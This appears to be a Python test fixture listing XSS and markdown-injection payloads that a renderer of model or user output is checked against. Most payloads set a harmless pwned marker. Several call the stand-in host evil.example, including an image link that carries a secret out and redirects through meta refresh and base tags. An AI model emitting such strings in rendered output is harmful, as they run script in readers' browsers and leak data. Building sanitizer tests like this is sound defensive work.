"""What somebody could write, or have a model write, to act in the browser of whoever reads it."""

HOSTILE = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "[a](javascript:window.pwned=1)",
    "[a](data:text/html,<script>window.pwned=1</script>)",
    "[a](vbscript:window.pwned=1)",
    "![a](https://evil.example/?q=secret)",
    "<a href='#' hx-get='https://evil.example/' hx-trigger='load'>a</a>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<form action='https://evil.example/'><button>a</button></form>",
    "<style>@import 'https://evil.example/a.css';</style>",
    '```"><script>window.pwned=1</script>\ncode\n```',
    "[a](//evil.example/) <//evil.example/>",
    "'\"><img src=x onerror=window.pwned=1>{{ 7 * 7 }}",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'>",
    "</pre></blockquote></details></template></textarea><script>window.pwned=1</script>",
]
